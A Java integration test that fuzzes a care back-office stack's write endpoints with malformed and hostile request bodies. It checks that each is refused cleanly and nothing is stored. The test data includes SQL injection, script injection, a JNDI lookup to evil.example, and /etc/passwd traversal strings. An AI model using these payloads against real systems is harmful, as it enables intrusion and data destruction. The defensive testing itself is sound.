package care.backoffice.stack;

import static org.assertj.core.api.Assertions.assertThat;

import care.backoffice.stack.api.Gateway;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * What a broken app, a fuzzer or an attacker sends: malformed and hostile bodies against every write endpoint.
 * Never a 5xx; every refusal is problem+json naming the problem; and nothing is written, which is checked by
 * counting the records a caller can see before and after.
 */
class HostileInputIT {

    static final String[] INJECTIONS = {"'; drop table funder; --", "\" OR 1=1 --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%00", "{{7*7}}", "\u0000", "\u202Eevil\u202C",
            "Ａｄｍｉｎ", "e\u0301\u0301\u0301", "\uD83D\uDCA9", "\uFEFFbom", "null", "NaN", "-Infinity"};

    /** Bodies that are not a valid request to anything: every write endpoint must refuse them cleanly. */
    static List<String> structural() {
        List<String> b = new ArrayList<>(List.of("{", "}", "{\"a\":", "[", "not json", "null", "true", "42", "\"text\"",
                "[]", "[{}]", "{\"a\":1,\"a\":2}", "{\"a\":\"\\ud800\"}", "{\"a\":1e999999}", "{\"a\":-1e-999999}",
                "{\"a\":123456789012345678901234567890}", "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
                "{\"a\":\"" + "x".repeat(100_000) + "\"}", "\u0000\u0001\u0002", "{\"a\":1}garbage"));
        b.add("[".repeat(5000) + "]".repeat(5000));
        return b;
    }

    record Case(String method, String path, String body, String what) {}

    static final List<Case> CASES = new ArrayList<>();

    static Map<String, Object> funder() {
        Map<String, Object> f = new LinkedHashMap<>();
        f.put("legalName", "Hostile Test Council");
        f.put("type", "LOCAL_AUTHORITY");
        f.put("address", Map.of("line1", "1 High St", "city", "York", "postcode", "YO1 1AA", "countryCode", "GB"));
        f.put("email", "a@b.example");
        f.put("paymentTermsDays", 30);
        return f;
    }

    /** One invalid field per request, on top of an otherwise valid body: the invalid field must be named. */
    static void mutate(String path, Map<String, Object> valid, Map<String, List<Object>> badValues) {
        badValues.forEach((field, values) -> {
            for (Object v : values) {
                Map<String, Object> b = new LinkedHashMap<>(valid);
                b.put(field, v);
                CASES.add(new Case("POST", path, Gateway.JSON.writeValueAsString(b), field + "=" + abbreviate(String.valueOf(v))));
            }
        });
    }

    static List<Object> badDates() {
        return List.of("2026-02-30", "0000-01-01", "99999-01-01", "-2026-01-01", "2026-13-01", "yesterday", 20261001, "",
                "2026-10-01T00:00:00Z", "'; drop table x; --");
    }

    static List<Object> badAmounts() {
        return List.of("-1.00", "1.001", "1e400", "99999999999999999999999999.99", "NaN", "Infinity", "12,50", "£12",
                "0x10", "", true, List.of(1), Map.of("a", 1), "١٢٣");
    }

    static List<Object> badTexts() {
        // Numbers and booleans for a text field are coerced to text by every service (Jackson's default), which is
        // harmless; lists, objects, blanks and overlong text are not.
        return new ArrayList<>(List.of("", "   ", "x".repeat(20_000), List.of("a"), Map.of("a", "b")));
    }

    @Test
    void everyWriteEndpointRefusesHostileInputCleanlyAndWritesNothing() throws Exception {
        RunningStack.get();
        Map<String, String> tokens = Map.of("billing", RunningStack.passwordToken("dave"), "procurement",
                RunningStack.passwordToken("dave"), "finance", RunningStack.passwordToken("fiona"), "payroll",
                RunningStack.passwordToken("anna"));
        String anna = tokens.get("payroll");
        String dave = tokens.get("billing");

        // Every write endpoint of every service, with bodies that are not requests at all.
        List<AccessMatrixIT.Endpoint> writes = new ArrayList<>();
        for (String service : StackSettings.SERVICES) {
            JsonNode paths = Gateway.JSON.readTree(RunningStack.call("GET", "/api/" + service + "/api-docs", null, null).body())
                    .path("paths");
            for (var p : paths.properties()) {
                for (var m : p.getValue().properties()) {
                    String method = m.getKey().toUpperCase();
                    // Every operation that takes a JSON body, except those where any JSON object is a valid request
                    // (closing a period or an account: the body is an optional reason). Budgets are CSV, not JSON.
                    boolean takesBody = m.getValue().has("requestBody");
                    if (List.of("POST", "PUT", "PATCH").contains(method) && takesBody && !p.getKey().endsWith("/close")
                            && !p.getKey().contains("/close/") && !p.getKey().endsWith("/closure") && !p.getKey().contains("/budgets")) {
                        writes.add(new AccessMatrixIT.Endpoint(service, method, p.getKey(), AccessMatrixIT.fill(p.getKey())));
                    }
                }
            }
        }
        for (AccessMatrixIT.Endpoint e : writes) {
            for (String body : structural()) {
                CASES.add(new Case(e.method(), e.path(), body, "structural"));
            }
        }

        // Field by field on the creates the back office and teams use most.
        Map<String, Object> funder = funder();
        mutate("/api/billing/funders", funder, Map.of("legalName", badTexts(), "type", List.of("COUNCIL", "", 1, "local_authority"),
                "paymentTermsDays", List.of(-1, 366, 1e12, "thirty", 2147483648L), "email", List.of(INJECTIONS)));
        Map<String, Object> client = Map.of("name", "Hostile Client", "address",
                Map.of("line1", "1 A St", "city", "York", "postcode", "YO1 1AA"),
                "funding", Map.of("funderId", UUID.randomUUID().toString(), "from", "2026-10-01", "packageKind", "COUNCIL_PACKAGE"));
        mutate("/api/billing/clients", client, Map.of("id", List.of(INJECTIONS), "funding", List.of(
                Map.of("funderId", "not-a-uuid", "from", "2026-10-01", "packageKind", "COUNCIL_PACKAGE"),
                Map.of("funderId", UUID.randomUUID().toString(), "from", "2026-02-30", "packageKind", "X"))));
        mutate("/api/billing/runs", Map.of("month", "2019-01"), Map.of("month", List.of("2019-13", "19-01", "", 201901,
                "2019-01-01", "'; drop table billing_run; --", "9999999-01")));
        Map<String, Object> supplier = Map.of("name", "Hostile Supplies", "address",
                Map.of("line1", "1 A St", "town", "York", "postcode", "YO1 1AA", "countryCode", "GB"),
                "orderEndpointUrl", "https://orders.hostile.example", "bankDetails",
                Map.of("accountName", "Hostile", "sortCode", "123456", "accountNumber", "12345678"), "paymentTermsDays", 30);
        mutate("/api/procurement/suppliers", supplier, Map.of("orderEndpointUrl", List.of("javascript:alert(1)",
                "file:///etc/passwd", "ftp://x", "http://", 7), "bankDetails", List.of(
                Map.of("accountName", "x", "sortCode", "12-34-56x", "accountNumber", "1"),
                Map.of("accountName", "x", "sortCode", "123456", "accountNumber", "1234567890123")),
                "paymentTermsDays", List.of(-5, "x", 1e20)));
        Map<String, Object> journalLine = Map.of("account", "1200", "debit", "10.00");
        Map<String, Object> journal = Map.of("date", "2019-01-15", "description", "hostile", "source", "manual",
                "sourceDocumentId", "hostile-" + UUID.randomUUID(), "lines", List.of(journalLine,
                        Map.of("account", "4000", "credit", "10.00")));
        List<Object> badLines = new ArrayList<>();
        for (Object amount : badAmounts()) {
            badLines.add(List.of(Map.of("account", "1200", "debit", amount), Map.of("account", "4000", "credit", "10.00")));
        }
        badLines.add(List.of(journalLine, Map.of("account", "4000", "credit", "9.99")));
        badLines.add(List.of(journalLine, Map.of("account", "4000", "credit", "0.00")));
        badLines.add(List.of(journalLine, Map.of("account", "'; drop table journal; --", "credit", "10.00")));
        mutate("/api/finance/journals", journal, Map.of("lines", badLines, "date", badDates(), "source", List.of("x", "BILLING ", List.of("manual")),
                "description", List.of("x".repeat(501), "", List.of("x"))));
        Map<String, Object> order = Map.of("supplierId", UUID.randomUUID().toString(), "deliveryAddress",
                Map.of("line1", "1 A St", "town", "York", "postcode", "YO1 1AA"), "lines",
                List.of(Map.of("description", "gloves", "category", "stationery", "unit", "EA", "quantity", "1", "unitPrice", "1.00")));
        List<Object> badOrderLines = new ArrayList<>();
        for (Object q : List.of("0", "-1", "1e9", "1.0001", "x", "", 0)) {
            badOrderLines.add(List.of(Map.of("description", "pens", "category", "stationery", "unit", "EA", "quantity", q,
                    "unitPrice", "1.00")));
        }
        for (Object price : badAmounts()) {
            badOrderLines.add(List.of(Map.of("description", "pens", "category", "stationery", "unit", "EA", "quantity", "1",
                    "unitPrice", price)));
        }
        mutate("/api/procurement/orders", order, Map.of("lines", badOrderLines));
        List<Object> badHours = new ArrayList<>();
        for (Object minutes : List.of(0, -30, 1441, 2147483648L, "sixty", 1.5)) {
            badHours.add(List.of(Map.of("employeeId", UUID.randomUUID().toString(), "date", "2026-10-01", "start", "09:00",
                    "minutes", minutes, "activity", "ADMIN")));
        }
        for (Object date : badDates()) {
            badHours.add(List.of(Map.of("employeeId", UUID.randomUUID().toString(), "date", date, "start", "09:00",
                    "minutes", 30, "activity", "ADMIN")));
        }
        for (Object start : List.of("24:00", "9am", "09:60", "-01:00", "")) {
            badHours.add(List.of(Map.of("employeeId", UUID.randomUUID().toString(), "date", "2026-10-01", "start", start,
                    "minutes", 30, "activity", "ADMIN")));
        }
        badHours.add(List.of(Map.of("employeeId", "'; drop table hours_entry; --", "date", "2026-10-01", "start", "09:00",
                "minutes", 30, "activity", "CARE")));
        mutate("/api/payroll/hours", Map.of("entries", List.of()), Map.of("entries", badHours));
        Map<String, Object> member = Map.of("givenName", "Hostile", "familyName", "Tester", "dateOfBirth", "1990-01-01",
                "startDate", "2026-01-01", "niNumber", "AB123456C");
        mutate("/api/payroll/teams/team-arnhem-noord/members", member, Map.of("niNumber", List.of("QQ123456C", "AB12345C",
                "BG123456A", "' OR 1=1 --", ""), "dateOfBirth", badDates(), "givenName",
                // Only the hostile strings that are no name: "null" or full-width letters are letters, so a name.
                List.<Object>copyOf(java.util.Arrays.stream(INJECTIONS).filter(v -> !v.matches("[\\p{L} '\\-]+")).toList())));
        // 10 MB bodies: refused for size before anything reads them.
        String tenMegabytes = "{\"legalName\":\"" + "x".repeat(10 * 1024 * 1024) + "\"}";
        for (String path : List.of("/api/billing/funders", "/api/finance/journals", "/api/payroll/hours", "/api/procurement/orders")) {
            CASES.add(new Case("POST", path, tenMegabytes, "10 MB body"));
        }

        List<Case> known = CASES.stream().filter(c -> KnownServiceBugsIT.isKnown(c.path(), c.what())).toList();
        CASES.removeAll(known);
        known.forEach(c -> System.out.println("[hostile] KNOWN SERVICE BUG, not sent here (see KnownServiceBugsIT): "
                + c.method() + " " + c.path() + " [" + abbreviate(c.what()) + "]"));
        Map<String, Integer> before = counts(dave, anna);
        List<String> wrong = new ArrayList<>();
        int sent = 0;
        for (Case c : CASES) {
            String service = c.path().split("/")[2];
            String token = c.path().startsWith("/api/procurement/orders") || c.path().startsWith("/api/payroll") ? anna
                    : tokens.get(service);
            Reply a = send(c, token, "hostile-" + UUID.randomUUID());
            sent++;
            check(c, a, wrong);
        }
        // The same Idempotency-Key with another body: a conflict, never a second record or the first answer.
        String key = "hostile-dup-" + UUID.randomUUID();
        Map<String, Object> first = new LinkedHashMap<>(funder);
        first.put("legalName", "Duplicate Key Council " + key);
        Reply created = send(new Case("POST", "/api/billing/funders", Gateway.JSON.writeValueAsString(first), "first"),
                dave, key);
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        for (int i = 0; i < 10; i++) {
            Map<String, Object> other = new LinkedHashMap<>(first);
            other.put("paymentTermsDays", i);
            Reply a = send(new Case("POST", "/api/billing/funders", Gateway.JSON.writeValueAsString(other),
                    "same key, other body"), dave, key);
            sent++;
            if (a.status() != 409) {
                wrong.add("same Idempotency-Key, other body #" + i + " answered " + a.status());
            }
        }
        Map<String, Integer> after = counts(dave, anna);
        after.computeIfPresent("funders", (k, v) -> v - 1); // the one legitimate "first" above
        System.out.println("[hostile] " + sent + " requests, " + wrong.size() + " wrong answers");
        wrong.stream().limit(40).forEach(w -> System.out.println("[hostile] " + w));
        assertThat(sent).isGreaterThanOrEqualTo(500);
        assertThat(after).as("records visible before and after the corpus").isEqualTo(before);
        assertThat(wrong).isEmpty();
    }

    /** An answer; status -1 means the server closed the connection on an oversized body without answering. */
    record Reply(int status, String contentType, String body) {}

    static void check(Case c, Reply a, List<String> wrong) {
        int s = a.status();
        String what = c.method() + " " + c.path() + " [" + c.what() + "]";
        if (s == -1) {
            return; // refused by closing the connection: nothing was read, so nothing was written
        }
        if (s >= 500) {
            wrong.add(what + " answered " + s + " " + abbreviate(a.body()));
        } else if (s < 400) {
            wrong.add(what + " was accepted: " + s + " " + abbreviate(a.body()));
        } else if (s != 404 && s != 405) {
            if (!a.contentType().contains("application/problem+json")) {
                wrong.add(what + " answered " + s + " as '" + a.contentType() + "', not problem+json");
            } else if (!(a.body().contains("\"detail\"") || a.body().contains("\"errors\""))) {
                wrong.add(what + " answered " + s + " without naming the problem: " + abbreviate(a.body()));
            }
        }
    }

    static Reply send(Case c, String token, String key) throws Exception {
        HttpRequest r = HttpRequest.newBuilder(URI.create(RunningStack.get().settings().gatewayUrl() + c.path()))
                .header("Authorization", "Bearer " + token).header("Content-Type", "application/json")
                .header("Idempotency-Key", key)
                .method(c.method(), HttpRequest.BodyPublishers.ofString(c.body())).build();
        for (int attempt = 0; ; attempt++) {
            try {
                HttpResponse<String> a = RunningStack.HTTP.send(r, HttpResponse.BodyHandlers.ofString());
                if (a.statusCode() == 429 && attempt < 20) {
                    Thread.sleep(1000);
                    continue;
                }
                return new Reply(a.statusCode(), a.headers().firstValue("Content-Type").orElse(""), a.body());
            } catch (java.io.IOException e) {
                if (c.body().length() > 5_000_000) {
                    return new Reply(-1, "", "");
                }
                throw e;
            }
        }
    }

    static Map<String, Integer> counts(String dave, String anna) throws Exception {
        Map<String, Integer> c = new LinkedHashMap<>();
        c.put("funders", size(RunningStack.call("GET", "/api/billing/funders", dave, null).body()));
        c.put("clients", size(RunningStack.call("GET", "/api/billing/clients", dave, null).body()));
        c.put("contracts", size(RunningStack.call("GET", "/api/billing/contracts", dave, null).body()));
        c.put("suppliers", size(RunningStack.call("GET", "/api/procurement/suppliers", dave, null).body()));
        c.put("categories", size(RunningStack.call("GET", "/api/procurement/categories", dave, null).body()));
        c.put("members", size(RunningStack.call("GET", "/api/payroll/teams/team-arnhem-noord/members", anna, null).body()));
        c.put("orders", size(RunningStack.call("GET", "/api/procurement/orders?limit=1000", anna, null).body()));
        c.put("accounts", size(RunningStack.call("GET", "/api/finance/accounts", RunningStack.passwordToken("fiona"), null).body()));
        return c;
    }

    static int size(String json) {
        JsonNode n = Gateway.JSON.readTree(json);
        if (n.isArray()) {
            return n.size();
        }
        for (String field : List.of("items", "content", "orders", "members")) {
            if (n.path(field).isArray()) {
                return n.path(field).size();
            }
        }
        return n instanceof ObjectNode o ? o.size() : -1;
    }

    static String abbreviate(String s) {
        return s == null ? "" : s.length() > 160 ? s.substring(0, 160) + "…" : s;
    }
}
